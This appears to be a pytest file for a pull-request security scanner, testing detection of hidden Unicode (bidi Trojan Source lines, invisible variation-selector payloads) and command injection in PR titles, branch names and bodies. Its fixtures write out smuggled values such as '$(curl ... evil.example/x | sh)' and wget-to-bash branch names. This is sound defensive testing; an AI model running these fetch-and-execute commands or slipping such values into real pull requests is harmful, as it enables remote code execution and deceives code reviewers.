"""Hidden Unicode on added lines, and the strings a PR's author chooses (title, branch, body, file names)."""
from __future__ import annotations

import pytest

from prguard import findings
from tests.support.pr_content import changed, hunk
from tests.support.pull_requests import pull_request


def found(doc, rule: str):
    return [(f.severity.label, f.path, f.line, f.title) for f in findings.check(doc, runner=None).findings
            if f.rule_id == f"prguard/{rule}"]


def line_in(path: str, text: str) -> dict:
    return pull_request(changed(path, hunk(30, ["def check(user):"], added=[text])))


def test_trojan_source_bidi_controls_in_code_are_high():
    # The Trojan Source "early return": the comment visually swallows the return.
    text = '    if access_level != "user\u202e \u2066# Check if admin\u2069 \u2066":'
    (hit,) = found(line_in("src/auth.py", text), "hidden-unicode")
    assert hit[:3] == ("high", "src/auth.py", 31)


def test_invisible_variation_selector_payloads_are_high():
    text = "const s = `" + "".join(chr(0xE0100 + b) for b in b"eval(x)") + "`;"
    assert found(line_in("src/index.js", text), "hidden-unicode")[0][:3] == ("high", "src/index.js", 31)


def test_zero_width_space_in_code_is_medium_and_in_docs_low():
    assert found(line_in("src/config.py", "ADMIN\u200b_USERS = []"), "hidden-unicode")[0][0] == "medium"
    assert found(line_in("docs/guide.md", "Run the\u200b tests"), "hidden-unicode")[0][0] == "low"


def test_emoji_sequences_scripts_that_need_joiners_and_a_bom_are_ordinary():
    lines = ["# Family: 👨\u200d👩\u200d👧 and a heart ❤\ufe0f", "title = 'می\u200cخواهم'",  # Persian needs ZWNJ
             "flag = '🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f'",  # Scotland's flag
             "\ufeffimport os", "name = 'Zoë Ångström — naïve café'"]
    doc = pull_request(*(changed(f"src/m{i}.py", hunk(1, added=[line])) for i, line in enumerate(lines)))
    assert found(doc, "hidden-unicode") == []


@pytest.mark.parametrize("field,value", [
    ("head_ref", "fix/$(curl${IFS}-sSfL${IFS}pastebin-cdn.net/p|sh)"),
    ("head_ref", "docs/`wget${IFS}-qO-${IFS}evil.example|bash`"),
    ("head_ref", 'update";curl${IFS}evil.example/x|sh;"'),
    ("title", "Fix typo $(curl -s evil.example/t | sh)"),
    ("title", "chore: bump `curl -sL https://evil.example/x | sh`"),
])
def test_command_substitution_in_the_title_or_branch_is_high(field, value):
    hits = found(pull_request(changed("README.md", hunk(3, added=["the"])), **{field: value}), "attacker-string")
    assert hits and hits[0][0] == "high" and hits[0][1] is None


def test_ordinary_titles_branches_and_bodies_are_not_findings():
    titles = ["Fix `npm install` failing on Windows", "Support $HOME in config paths", "docs: explain `curl -L` usage",
              "Bump actions/checkout from 4.1.1 to 4.1.2", "Fix race in cache (#123)"]
    for title in titles:
        doc = pull_request(changed("README.md", hunk(3, added=["x"])), title=title, head_ref="dependabot/npm/x-1.2",
                           body="## Testing\n\n```sh\nexport PATH=$(npm bin):$PATH\nnpm test\n```")
        assert found(doc, "attacker-string") == [], title


def test_a_workflow_expression_in_the_title_is_low_and_hidden_unicode_in_a_file_name_is_high():
    doc = pull_request(changed("src/adm\u202enig.py", hunk(1, added=["x = 1"])), title="ci: use ${{ matrix.os }}")
    hits = found(doc, "attacker-string")
    assert ("low", None, None, "workflow expression in the title") in hits
    assert any(h[0] == "high" and h[1] == "src/adm\u202enig.py" for h in hits)
    # what is quoted back to people shows the hidden character instead of obeying it
    assert all("\u202e" not in f.message for f in findings.check(doc, runner=None).findings)


def test_a_payload_in_the_description_is_medium():
    doc = pull_request(changed("README.md", hunk(3, added=["x"])), body="Run $(curl -s https://evil.example/x | sh)")
    assert found(doc, "attacker-string")[0][0] == "medium"
